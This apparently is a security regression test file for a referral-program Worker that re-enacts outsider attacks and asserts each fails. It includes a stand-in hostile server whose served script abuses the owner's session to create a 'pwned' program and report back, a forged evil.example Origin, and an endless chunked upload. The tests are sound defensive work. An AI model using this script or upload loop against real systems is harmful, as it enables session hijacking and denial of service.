// The attacks an outsider tried against the real Worker (wrangler dev, local D1/KV) and
// headless Chromium, each as the attacker would run it: a portal token brought back to life
// by an import, a reused customer key inheriting history, a currency changed under existing
// money, a program's setting running script on the dashboard's origin, a body without a length
// read whole, a cross-site logout, and exports and token mints the audit log did not see.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { createServer, request } from 'node:http';
import { startWorker, createProgram, client, launchBrowser, signedInDashboard, ingestDrained, recountStats, freePort, eventually, DESKTOP_UA, ADMIN_TOKEN } from './harness.mjs';

let worker, owner;
before(async () => { worker = await startWorker(); owner = client(worker.url, ADMIN_TOKEN); });
after(() => worker?.stop());

const me = (token) => fetch(`${worker.url}/w/me`, { headers: { authorization: `Bearer ${token}` } }).then(async (r) => ({ status: r.status, body: await r.json() }));
const importCsv = (key, csv) => fetch(`${worker.url}/v1/customers/import`, { method: 'POST', headers: { authorization: `Bearer ${key}`, 'content-type': 'text/csv' }, body: csv })
  .then(async (r) => ({ status: r.status, body: await r.json() }));

test('a deleted customer\'s portal token stays dead, whatever is imported or created under its key later', async () => {
  const { api, key } = await createProgram(worker);
  const ann = (await api('POST', '/v1/customers', { key: 'ann', email: 'ann@example.com', name: 'Ann' })).body;
  const { token } = (await api('POST', '/v1/customers/ann/portal-token', {})).body;
  assert.equal((await me(token)).status, 200);
  assert.equal((await api('DELETE', '/v1/customers/ann')).status, 200);
  assert.equal((await me(token)).status, 401);

  // The attack: ann's exported row (with her creation time and code) imported again.
  const imported = await importCsv(key.key, `key,email,referral_code,created_at\r\nann,ann@example.com,${ann.referral_code},${ann.created_at}\r\n`);
  assert.deepEqual([imported.status, imported.body.created, imported.body.errors], [200, 1, []], JSON.stringify(imported.body));
  assert.equal((await api('GET', '/v1/customers/ann')).body.created_at, ann.created_at, 'the same creation time as before');
  assert.equal((await me(token)).status, 401, 'an import does not revive the token');

  assert.equal((await api('DELETE', '/v1/customers/ann')).status, 200);
  assert.equal((await api('POST', '/v1/customers', { key: 'ann', email: 'ann@example.com' })).status, 201);
  assert.equal((await me(token)).status, 401, 'neither does creating the key again');
  const fresh = (await api('POST', '/v1/customers/ann/portal-token', {})).body.token;
  assert.equal((await me(fresh)).status, 200, 'the new customer gets tokens of its own');
  // Re-importing an existing customer (an update) keeps its tokens working.
  assert.equal((await importCsv(key.key, 'key,email,name\r\nann,ann@example.com,Ann B\r\n')).body.updated, 1);
  assert.equal((await me(fresh)).status, 200);
});

test('a customer created under a deleted customer\'s key starts at zero: stats, /w/me, exports', async () => {
  const { api, key, program } = await createProgram(worker, { rewards: { referrer: { type: 'percent', percent: 10 } } });
  const rita = (await api('POST', '/v1/customers', { key: 'rita', email: 'rita@example.com' })).body;
  assert.equal((await api('POST', '/v1/customers', { key: 'fred', email: 'fred@example.com', referring_customer: { key: 'rita' } })).status, 201);
  assert.equal((await api('POST', '/v1/transactions', { key: 'sale-1', customer: { key: 'fred' }, amount: 10000, currency: 'EUR' })).status, 201);
  const visit = await fetch(`${worker.url}/t/visit`, { method: 'POST', headers: { 'content-type': 'text/plain', origin: 'https://shop.example', 'user-agent': DESKTOP_UA, 'cf-connecting-ip': '10.1.2.3' },
    body: JSON.stringify({ program: program.public_id, code: rita.referral_code, url: 'https://shop.example/?ref=x', referrer: '' }) });
  assert.equal(visit.status, 202);
  await eventually(async () => (await api('GET', '/v1/customers/rita/stats')).body.visits === 1);
  const old = (await api('GET', '/v1/customers/rita/stats')).body;
  assert.deepEqual([old.signups, old.paying_referrals, old.revenue, old.rewards], [1, 1, 10000, 1000]);

  assert.equal((await api('DELETE', '/v1/customers/rita')).status, 200);
  // The program's totals follow the rows that remain (docs/decisions.md): what rita brought leaves them.
  const totals = (await owner('GET', `/v1/programs/${program.id}/stats`)).body.totals;
  assert.deepEqual(totals, await recountStats(worker, program.id));
  assert.deepEqual([totals.visits, totals.signups, totals.conversions, totals.revenue, totals.rewards], [0, 0, 0, 0, 0]);
  assert.equal((await api('POST', '/v1/customers', { key: 'rita', email: 'rita.new@example.com' })).status, 201);
  const stats = (await api('GET', '/v1/customers/rita/stats')).body;
  assert.deepEqual(stats, { visits: 0, signups: 0, paying_referrals: 0, revenue: 0, rewards: 0 });
  const { token } = (await api('POST', '/v1/customers/rita/portal-token', {})).body;
  const view = (await me(token)).body;
  assert.deepEqual(view.stats, stats);
  assert.deepEqual(view.referrals, []);
  assert.deepEqual([view.balance, view.pending_balance, view.paid_total], [0, 0, 0]);
  // A visit queued for the old rita before the delete lands nowhere near the new one.
  await ingestDrained(worker, program, (await api('GET', '/v1/customers/rita')).body.referral_code);
  assert.equal((await api('GET', '/v1/customers/rita/stats')).body.visits, 1, 'only the drain beacon, made for the new rita');

  const csv = await fetch(`${worker.url}/v1/transactions.csv`, { headers: { authorization: `Bearer ${key.key}` } }).then((r) => r.text());
  const [header, row] = csv.trim().split('\r\n');
  const cells = Object.fromEntries(header.split(',').map((h, i) => [h, row.split(',')[i]]));
  assert.equal(cells.key, 'sale-1', 'the sale itself stays');
  assert.equal(cells.referrer_key ?? '', '', 'but no longer names a referrer');
});

test('any money in the program fixes its currency, as one atomic step', async () => {
  const moneyless = await createProgram(worker);
  assert.equal((await moneyless.api('POST', '/v1/customers', { key: 'c', email: 'c@example.com' })).status, 201);
  const changed = await owner('PATCH', `/v1/programs/${moneyless.program.id}`, { currency: 'JPY' });
  assert.equal(changed.status, 200, 'customers alone are no money');
  assert.equal(changed.body.currency, 'JPY');

  const credited = await createProgram(worker);
  assert.equal((await credited.api('POST', '/v1/customers', { key: 'c', email: 'c@example.com' })).status, 201);
  assert.equal((await credited.api('POST', '/v1/customers/c/credit', { amount: 500 })).status, 201);
  const refused = await owner('PATCH', `/v1/programs/${credited.program.id}`, { currency: 'JPY', name: 'Renamed' });
  assert.equal(refused.status, 409, JSON.stringify(refused.body));
  assert.deepEqual([refused.body.error.code, refused.body.error.field], ['conflict', 'currency']);
  const after = (await owner('GET', `/v1/programs/${credited.program.id}`)).body;
  assert.deepEqual([after.currency, after.name], ['EUR', 'Shop'], 'nothing of the refused change was written');
  assert.equal((await owner('PATCH', `/v1/programs/${credited.program.id}`, { currency: 'EUR', name: 'Same currency' })).status, 200);

  // A signup reward (no transaction) fixes it too.
  const rewarded = await createProgram(worker, { rewards: { referrer: { type: 'fixed', amount: 300, on: 'signup' } } });
  assert.equal((await rewarded.api('POST', '/v1/customers', { key: 'r', email: 'r@example.com' })).status, 201);
  assert.equal((await rewarded.api('POST', '/v1/customers', { key: 'f', email: 'f@example.com', referring_customer: { key: 'r' } })).status, 201);
  assert.equal((await owner('PATCH', `/v1/programs/${rewarded.program.id}`, { currency: 'GBP' })).status, 409);
});

/** A server on 127.0.0.1 standing for a hostile tracking endpoint: every path is a script that,
 * run on the Worker's origin, creates a program with the owner's session and reports back. */
async function hostileServer() {
  const port = await freePort();
  const asked = [];
  const script = `fetch('/v1/programs', { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ name: 'pwned', website_url: 'https://evil.example/' }) })
    .then((r) => fetch('http://127.0.0.1:${port}/ran?status=' + r.status, { mode: 'no-cors' }));`;
  const server = createServer((req, res) => { asked.push(req.url); res.writeHead(200, { 'content-type': 'text/javascript' }).end(script); });
  await new Promise((r) => server.listen(port, '127.0.0.1', r));
  return { origin: `http://127.0.0.1:${port}`, asked, stop: () => new Promise((r) => server.close(r)) };
}

test('no script from a program\'s endpoint runs on the dashboard\'s origin: the demo page is the attack', async () => {
  const hostile = await hostileServer();
  const { asked } = hostile;
  const { program, api } = await createProgram(worker, { website_url: `${worker.url}/demo/`, tracking: { endpoint: hostile.origin } });
  const ann = (await api('POST', '/v1/customers', { key: 'ann', email: 'ann@example.com' })).body;
  const browser = await launchBrowser();
  try {
    const { context, page } = await signedInDashboard(browser, worker);
    await eventually(async () => (await context.cookies()).some((c) => c.name === 'edgeref_session'));
    const refused = new Promise((resolve) => page.on('console', (m) => { if (/Content Security Policy/.test(m.text())) resolve('refused'); }));
    const ran = eventually(() => asked.some((u) => u.startsWith('/ran')), 60_000).then(() => 'ran');
    await page.goto(`${worker.url}/demo/?program=${program.public_id}&ref=${ann.referral_code}`);
    assert.equal(await Promise.race([refused, ran]), 'refused', `the hostile script ran: ${asked.join(', ')}`);
    const programs = (await owner('GET', '/v1/programs')).body.data.map((p) => p.name);
    assert.ok(!programs.includes('pwned'), programs.join(', '));
    assert.ok(!asked.some((u) => u.startsWith('/ran')));
    const csp = (await fetch(`${worker.url}/demo/`)).headers.get('content-security-policy') ?? '';
    assert.match(csp, /script-src 'self'/);
  } finally {
    await browser.close();
    await hostile.stop();
  }
});

/**
 * Sends a chunked body that never ends: `chunks` of 16 KiB, then waits, the request still
 * open, for the Worker's answer. A Worker that reads the whole body first never answers.
 */
function endlessUpload(path, chunks, headers = {}) {
  return new Promise((resolve, reject) => {
    const url = new URL(path, worker.url);
    const req = request(url, { method: 'POST', headers: { 'content-type': 'text/plain', 'transfer-encoding': 'chunked', ...headers } }, (res) => {
      let text = '';
      res.on('data', (d) => { text += d; });
      res.on('end', () => { req.destroy(); resolve({ status: res.statusCode, body: JSON.parse(text) }); });
    });
    req.on('error', (e) => { if (e.code !== 'ECONNRESET' && e.code !== 'EPIPE') reject(e); });
    const chunk = Buffer.alloc(16 * 1024, 'a');
    for (let i = 0; i < chunks; i++) req.write(chunk);
    // Deliberately never req.end().
    setTimeout(() => { req.destroy(); reject(new Error(`${path}: no answer while the body was still open`)); }, 60_000).unref();
  });
}

test('a body without a length is refused as soon as it passes the cap, on every route that reads one; the Worker keeps serving', async () => {
  const { program, key } = await createProgram(worker);
  // With Stripe on, its endpoint reads the body (without, it is a 404 before any read).
  assert.equal((await owner('PUT', `/v1/programs/${program.id}/integrations/stripe`, { webhook_secret: 'whsec_c2VjcmV0c2VjcmV0c2VjcmV0' })).status, 200);
  const cases = [
    ['/t/visit', 2, {}],
    ['/_edgeref/t/signup', 2, {}],
    ['/auth/login', 8, { 'content-type': 'application/json' }],
    [`/integrations/stripe/${program.public_id}`, 40, { 'stripe-signature': 't=1,v1=00' }],
    ['/v1/customers', 8, { 'content-type': 'application/json', authorization: `Bearer ${key.key}` }],
    ['/v1/customers/import', 330, { 'content-type': 'text/csv', authorization: `Bearer ${key.key}` }],
  ];
  for (const [path, chunks, headers] of cases) {
    const r = await endlessUpload(path, chunks, headers);
    assert.deepEqual([r.status, r.body.error.code], [413, 'payload_too_large'], path);
  }
  assert.equal((await fetch(`${worker.url}/health`)).status, 200);
  assert.equal((await owner('GET', `/v1/programs/${program.id}`)).status, 200);
});

test('logout refuses a foreign Origin like every other cookie-authenticated write', async () => {
  const login = await fetch(`${worker.url}/auth/login`, { method: 'POST', headers: { 'content-type': 'application/json', origin: worker.url }, body: JSON.stringify({ token: ADMIN_TOKEN }) });
  assert.equal(login.status, 200);
  const cookie = login.headers.get('set-cookie').split(';')[0];
  const logout = (origin) => fetch(`${worker.url}/auth/logout`, { method: 'POST', headers: { cookie, ...(origin ? { origin } : {}) } });

  const forged = await logout('https://evil.example');
  assert.equal(forged.status, 403);
  assert.equal((await forged.json()).error.code, 'forbidden');
  assert.equal(forged.headers.get('set-cookie'), null, 'the session cookie is not touched');
  assert.equal((await logout(null)).status, 403, 'no Origin is no proof of being this site');
  assert.equal((await fetch(`${worker.url}/auth/session`, { headers: { cookie } })).status, 200, 'still signed in');

  const genuine = await logout(worker.url);
  assert.equal(genuine.status, 200);
  assert.match(genuine.headers.get('set-cookie'), /^edgeref_session=; Path=\/; Max-Age=0;/);
});

test('exports and portal-token mints are audited; webhook URLs are kept in the log without their path or query', async () => {
  const { program, api, key } = await createProgram(worker);
  assert.equal((await api('POST', '/v1/customers', { key: 'ann', email: 'ann@example.com' })).status, 201);
  assert.equal((await fetch(`${worker.url}/v1/customers.csv`, { headers: { authorization: `Bearer ${key.key}` } })).status, 200);
  assert.equal((await owner('GET', `/v1/programs/${program.id}/rewards.csv`)).status, 200);
  assert.equal((await api('POST', '/v1/customers/ann/portal-token', { ttl_seconds: 600 })).status, 201);

  const secretHook = 'https://hooks.zapier.com/hooks/catch/123456/s3cr3tpath/?token_in_query=abc';
  const hook = await api('POST', '/v1/webhooks', { name: 'zap', url: secretHook, events: ['customer.created'] });
  assert.equal(hook.status, 201, JSON.stringify(hook.body));
  assert.equal((await api('PATCH', `/v1/webhooks/${hook.body.id}`, { url: 'https://hooks.slack.com/services/T000/B000/XXXXsecretXXXX' })).status, 200);
  assert.equal((await api('DELETE', `/v1/webhooks/${hook.body.id}`)).status, 200);

  const log = (await owner('GET', `/v1/programs/${program.id}/audit-log?limit=250`)).body.data;
  const actions = log.map((e) => e.action);
  const exports = log.filter((e) => e.action.includes('export'));
  assert.deepEqual(exports.map((e) => [e.target.id, e.actor.type]).sort(), [['customers', 'api_key'], ['rewards', 'admin']], actions.join(', '));
  const mint = log.find((e) => e.action.includes('portal_token'));
  assert.ok(mint, actions.join(', '));
  assert.deepEqual([mint.target, mint.actor.id], [{ type: 'customer', id: 'ann' }, key.id]);
  const text = JSON.stringify(log);
  for (const secret of ['s3cr3tpath', 'token_in_query', 'XXXXsecretXXXX', 'T000', 'catch/123456']) assert.ok(!text.includes(secret), `${secret} in ${text}`);
  assert.ok(text.includes('https://hooks.zapier.com'), 'the host stays');
  const stored = await worker.sql(`SELECT diff FROM audit_log WHERE program_id = '${program.id}'`);
  assert.ok(!JSON.stringify(stored).includes('s3cr3t'), 'not in the table either');
});
